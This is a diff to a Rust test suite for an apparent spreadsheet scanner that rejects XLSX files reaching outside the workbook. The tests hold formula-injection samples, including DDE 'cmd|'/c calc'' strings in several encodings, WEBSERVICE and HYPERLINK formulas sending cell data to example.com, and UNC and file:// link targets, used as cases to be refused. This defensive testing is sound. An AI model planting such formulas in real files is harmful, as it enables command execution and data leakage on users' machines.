@@ -109,12 +109,13 @@ fn two_cells_at_opposite_corners_are_two_cells() {
         r#"<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>"#,
     );
     let bytes = with_parts(&[("xl/worksheets/sheet1.xml", &corners)]);
-    assert_eq!(
-        examined(Xlsx, &bytes),
-        Verdict::Clean(Facts::Workbook {
+    assert_clean(
+        Xlsx,
+        &bytes,
+        Facts::Workbook {
             sheets: 1,
-            cells: 2
-        })
+            cells: 2,
+        },
     );
 }
 
@@ -157,4 +158,107 @@ fn more_parts_than_any_roster_has_are_refused() {
         .collect();
     let parts: Vec<(&str, &[u8])> = names.iter().map(|name| (name.as_str(), &b""[..])).collect();
     assert_rejected(Xlsx, &with_parts(&parts), &[RejectReason::WorkbookTooLarge]);
+}
+
+/// A sheet with a word in it and one formula, as a program writes it.
+fn with_formula(formula: &str) -> Vec<u8> {
+    let cells =
+        format!(r#"<row r="1"><c r="A1"><v>1</v></c><c r="B1"><f>{formula}</f><v>1</v></c></row>"#);
+    with_parts(&[("xl/worksheets/sheet1.xml", &sheet(&cells))])
+}
+
+const ONE_SHEET: Facts = Facts::Workbook {
+    sheets: 1,
+    cells: 2,
+};
+
+#[test]
+fn formulas_that_reach_outside_are_refused_however_they_are_written() {
+    for formula in [
+        r#"WEBSERVICE("https://example.com/?"&amp;A1)"#,
+        "_xlfn.WEBSERVICE(A1)",
+        "cmd|&apos;/c calc&apos;!A0",
+        "cmd&#124;'/c calc'!A0",
+        "<![CDATA[cmd|'/c calc'!A0]]>",
+        "[1]Sheet1!A1",
+        r#"HYPERLINK("https://example.com/?"&amp;A1)"#,
+        r#"IMAGE("https://example.com/a.png")"#,
+    ] {
+        let refused = [RejectReason::WorkbookExternalLinks];
+        assert_rejected(Xlsx, &with_formula(formula), &refused);
+    }
+}
+
+#[test]
+fn formulas_within_the_workbook_are_kept() {
+    for formula in [
+        "SUM(A1:A9)",
+        "Staff[[#This Row],[Age]]*2",
+        r##"HYPERLINK("#Sheet2!A1","see")"##,
+    ] {
+        assert_clean(Xlsx, &with_formula(formula), ONE_SHEET);
+    }
+}
+
+#[test]
+fn a_name_or_a_condition_may_not_reach_outside_either() {
+    let name =
+        r#"<x:names xmlns:x="urn:x"><x:definedName>cmd|'/c calc'!A0</x:definedName></x:names>"#;
+    let condition = "<cfRule><formula>_xlfn.WEBSERVICE(A1)</formula></cfRule>";
+    for part in [name, condition] {
+        let bytes = with_parts(&[("xl/other.xml", part.as_bytes())]);
+        assert_rejected(Xlsx, &bytes, &[RejectReason::WorkbookExternalLinks]);
+    }
+}
+
+fn with_relationship(kind: &str, target: &str) -> Vec<u8> {
+    let office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
+    let part = format!(
+        r#"<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="{office}/{kind}" Target="{target}" TargetMode="External"/></Relationships>"#
+    );
+    with_parts(&[("xl/drawings/_rels/drawing1.xml.rels", part.as_bytes())])
+}
+
+#[test]
+fn a_link_to_a_page_is_kept_and_what_is_fetched_from_outside_is_not() {
+    for target in ["https://example.com/", "mailto:a@example.com"] {
+        let verdict = examined(Xlsx, &with_relationship("hyperlink", target));
+        assert!(matches!(verdict, Verdict::Clean(..)), "{verdict:?}");
+    }
+    for (kind, target) in [
+        ("image", "https://example.com/a.png"),
+        ("hyperlink", r"\\server\share"),
+        ("hyperlink", "file:///c:/a"),
+    ] {
+        let refused = [RejectReason::WorkbookExternalLinks];
+        assert_rejected(Xlsx, &with_relationship(kind, target), &refused);
+    }
+}
+
+#[test]
+fn what_programs_read_differently_is_damaged() {
+    let utf_16: Vec<u8> = "<f>cmd|'/c calc'!A0</f>"
+        .encode_utf16()
+        .flat_map(u16::to_le_bytes)
+        .collect();
+    let declared = br#"<?xml version="1.0" encoding="UTF-7"?><a/>"#;
+    let entity = b"<!DOCTYPE a [<!ENTITY b \"cmd|x!A0\">]><f>&b;</f>";
+    for part in [&utf_16[..], declared, entity] {
+        let bytes = with_parts(&[("xl/other.xml", part)]);
+        assert_rejected(Xlsx, &bytes, &[RejectReason::WorkbookDamaged]);
+    }
+}
+
+#[test]
+fn a_million_empty_rows_are_too_large() {
+    let rows = "<row><c/></row>".repeat(1_000_001);
+    // Incompressible padding, so that it is not the ratio that gives it away.
+    let padding: Vec<u8> = (0..400_000_u32)
+        .map(|at| (at.wrapping_mul(2_654_435_761) >> 24) as u8)
+        .collect();
+    let bytes = with_parts(&[
+        ("xl/worksheets/sheet1.xml", &sheet(&rows)),
+        ("xl/media/image1.png", &padding),
+    ]);
+    assert_rejected(Xlsx, &bytes, &[RejectReason::WorkbookTooLarge]);
 }
